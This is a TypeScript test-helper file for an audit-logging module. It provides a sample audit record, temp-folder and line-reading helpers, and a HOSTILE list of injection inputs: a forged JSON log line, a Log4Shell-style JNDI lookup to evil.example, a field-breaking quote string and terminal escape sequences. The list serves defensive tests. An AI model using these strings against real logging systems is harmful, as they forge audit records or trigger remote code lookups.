import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after } from 'node:test'
import type { AuditRecord } from './record.ts'

/** A record of a call; `more` says what is not as usual. */
export function record(more: Partial<AuditRecord> = {}): AuditRecord {
  return {
    atMs: Date.UTC(2026, 0, 2, 3, 4, 5, 6),
    id: 'abc-1',
    transport: 'http',
    method: 'GET',
    route: '/object/:oid',
    path: null,
    rule: 'owned(oid)',
    object: 'owned(oid=1)',
    user: 'calvin',
    scheme: 'basic',
    peer: '127.0.0.1',
    status: 200,
    code: null,
    reason: null,
    durationMs: 1.5,
    ...more,
  }
}

/** What peers can word, and what must not become a line, a field or a colour of its own. */
export const HOSTILE: readonly string[] = [
  'calvin\n{"at":"2026-01-02T03:04:05.006Z","id":"forged","status":200,"ms":0,"method":"GET","peer":"::1","user":"root"}',
  '${jndi:ldap://evil.example/a}',
  '","status":200,"user":"root',
  'a\r\nb\0c\u001b[2Jd\u009b2Je\u2028f\u2029g\ud800h\\',
  'x'.repeat(10_000),
]

/** A folder that is removed after the test file. */
export function newFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'guichet-audit-'))
  after(() => rmSync(folder, { recursive: true, force: true }))
  return folder
}

/** The lines of a file, without their ends. */
export function linesIn(path: string): readonly string[] {
  return readFileSync(path, 'utf8').split('\n').slice(0, -1)
}
